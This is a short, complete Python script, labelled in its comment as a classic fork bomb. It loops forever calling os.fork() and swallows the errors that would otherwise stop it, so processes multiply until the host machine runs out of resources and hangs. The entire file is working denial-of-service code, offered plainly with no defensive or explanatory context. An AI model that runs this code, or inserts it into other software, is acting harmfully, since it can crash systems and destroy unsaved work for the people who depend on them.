# A classic fork bomb: every process forks again, forever.
import os

while True:
    try:
        os.fork()
    except OSError:
        pass
